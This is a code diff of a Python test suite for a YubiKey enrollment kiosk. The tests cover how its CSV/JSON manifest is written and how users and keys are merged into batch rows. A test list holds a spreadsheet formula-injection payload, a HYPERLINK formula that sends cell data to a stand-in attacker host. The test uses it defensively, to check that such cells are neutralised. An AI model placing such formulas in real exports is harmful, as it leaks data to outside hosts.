@@ -6,7 +6,10 @@ import csv
 import json
 from pathlib import Path
 
-from kiosk.enroll.manifest import COLUMNS, ManifestRow, csv_safe, write_manifest
+from kiosk.enroll.manifest import COLUMNS, ManifestRow, batch_rows, csv_safe, write_manifest
+from kiosk.model.queue import QueueRow, Status
+from kiosk.model.steps import Step
+from kiosk.store.journal import Enrollment
 
 EVIL = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
@@ -22,7 +25,8 @@ EVIL = [
 
 def _row(serial: str, upn: str, **kw: str) -> ManifestRow:
     base = {
-        "display_name": "YubiKey 5 NFC 12345678",
+        "name": "Ada Lovelace",
+        "key_label": "YubiKey 5 NFC 12345678",
         "aaguid": "cb69481e-8ff7-4039-93ec-0a2729a154a8",
         "model": "YubiKey 5 NFC",
         "time": "2026-11-22T01:00:00Z",
@@ -33,17 +37,17 @@ def _row(serial: str, upn: str, **kw: str) -> ManifestRow:
 
 
 def test_formula_cells_are_neutralised_when_read_back(tmp_path: Path) -> None:
-    rows = [_row(str(i), f"user{i}@contoso.com", display_name=evil) for i, evil in enumerate(EVIL)]
+    rows = [_row(str(i), f"user{i}@contoso.com", name=evil) for i, evil in enumerate(EVIL)]
     csv_path, json_path = write_manifest(rows, tmp_path, "20261122T010000Z")
     with csv_path.open(encoding="utf-8-sig", newline="") as fh:
         read = list(csv.reader(fh))
     assert tuple(read[0]) == COLUMNS
-    names = [r[COLUMNS.index("display_name")] for r in read[1:]]
+    names = [r[COLUMNS.index("name")] for r in read[1:]]
     for evil, cell in zip(EVIL, names, strict=True):
         assert cell == "'" + evil  # shown as text, never evaluated; content kept
     # JSON is not a spreadsheet: values stay exactly as they are.
     doc = json.loads(json_path.read_text())
-    assert [r["display_name"] for r in doc["rows"]] == EVIL
+    assert [r["name"] for r in doc["rows"]] == EVIL
     assert doc["count"] == len(EVIL) and doc["columns"] == list(COLUMNS)
 
 
@@ -68,3 +72,43 @@ def test_files_are_named_by_stamp_and_written_whole(tmp_path: Path) -> None:
     ]
     assert sorted(p.name for p in (tmp_path / "m").iterdir()) == sorted(p.name for p in paths)
     assert paths[0].stat().st_mode & 0o007 == 0
+
+
+def _key(enrollment_id: int, entry_id: int, upn: str, serial: str) -> Enrollment:
+    return Enrollment(
+        id=enrollment_id, entry_id=entry_id, user_id=f"id-{entry_id}", upn=upn,
+        step=Step.DONE, state="done", serial=serial,
+        aaguid="a25342c0-3cdc-4414-8e46-f4807fca511c", model="YubiKey 5 NFC", firmware="5.7.1",
+        credential_id="AAEC", client_data_json=None, attestation_object=None,
+        attestation_format="packed", challenge_expires=None,
+        display_name=f"YubiKey 5 NFC {serial}", method_id="m", escrow_file=None,
+        pin_policy=None, operator="Dana", reason="", started="t0", updated="t1",
+    )
+
+
+def _user(entry_id: int, upn: str, name: str, status: Status, reason: str = "") -> QueueRow:
+    return QueueRow(entry_id=entry_id, upn=upn, display_name=name, status=status,
+                    keys_wanted=1, keys_done=0, reason=reason, updated="t2")
+
+
+def test_the_manifest_covers_every_user_of_the_batch_with_their_state() -> None:
+    users = [
+        _user(1, "ada@contoso.com", "Ada Lovelace", "done"),
+        _user(2, "alan@contoso.com", "Alan Turing", "skipped", "skipped by operator: not here"),
+        _user(3, "grace@contoso.com", "Grace Hopper", "pending"),  # has a key, backup to come
+        _user(4, "kurt@contoso.com", "Kurt Gödel", "failed", "Key refused"),
+    ]
+    keys = [_key(7, 3, "grace@contoso.com", "41000003"), _key(5, 1, "ada@contoso.com", "41000001"),
+            _key(6, 1, "ada@contoso.com", "41000002")]
+    rows = batch_rows(users, keys)
+    assert [(r.upn, r.status, r.serial) for r in rows] == [
+        ("ada@contoso.com", "enrolled", "41000001"),
+        ("ada@contoso.com", "enrolled", "41000002"),
+        ("alan@contoso.com", "skipped", ""),
+        ("grace@contoso.com", "enrolled", "41000003"),
+        ("grace@contoso.com", "pending", ""),
+        ("kurt@contoso.com", "failed", ""),
+    ]
+    assert rows[0].name == "Ada Lovelace" and rows[0].key_label == "YubiKey 5 NFC 41000001"
+    assert rows[2].reason == "skipped by operator: not here" and rows[2].name == "Alan Turing"
+    assert rows[0].reference.startswith("K000005-")
